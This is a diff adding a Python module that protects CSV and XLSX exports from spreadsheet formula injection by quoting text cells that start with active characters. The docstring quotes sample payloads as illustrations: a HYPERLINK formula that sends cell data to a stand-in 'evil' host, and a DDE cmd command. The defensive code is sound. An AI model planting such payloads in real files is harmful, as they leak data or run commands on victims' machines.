@@ -1,0 +1,60 @@
+"""Cells that a spreadsheet shows as text and never runs: every CSV and XLSX channelwatch writes.
+
+A title such as ``=HYPERLINK("http://evil/?"&A1,"点击")`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` is
+data, but Excel and WPS run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and a leading tab
+or carriage return hides such a start). Such text cells get a leading single quote, as the OWASP
+"CSV injection" advice recommends; numbers stay numbers. openpyxl would even store a string that
+starts with ``=`` as a formula, so XLSX needs it as much as CSV.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Sequence
+from pathlib import Path
+from typing import Any
+
+__all__ = ["csv_text", "neutralise", "neutralise_row", "neutralise_workbook", "write_csv"]
+
+_ACTIVE_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value: Any) -> Any:
+    """``value`` as a cell: text that a spreadsheet would run gets a leading ``'``; anything else unchanged."""
+    if isinstance(value, str) and value.startswith(_ACTIVE_START):
+        return "'" + value
+    return value
+
+
+def neutralise_row(row: Iterable[Any]) -> list[Any]:
+    return [neutralise(value) for value in row]
+
+
+def csv_text(rows: Iterable[Sequence[Any]]) -> str:
+    """Rows as CSV text (``\\n`` line ends), every cell neutralised."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerows(neutralise_row(row) for row in rows)
+    return buffer.getvalue()
+
+
+def write_csv(target: Path, rows: Iterable[Sequence[Any]]) -> None:
+    """Rows to a CSV file in UTF-8 with BOM (so that Chinese Excel opens it), every cell neutralised."""
+    with target.open("w", encoding="utf-8-sig", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerows(neutralise_row(row) for row in rows)
+
+
+def neutralise_workbook(workbook: Any) -> None:
+    """Every text cell of an openpyxl workbook neutralised; call it just before ``save``.
+
+    openpyxl marks a string that starts with ``=`` as a formula when it is assigned; assigning the
+    quoted text again makes it a plain string cell.
+    """
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                value = cell.value
+                if isinstance(value, str) and value.startswith(_ACTIVE_START):
+                    cell.value = "'" + value
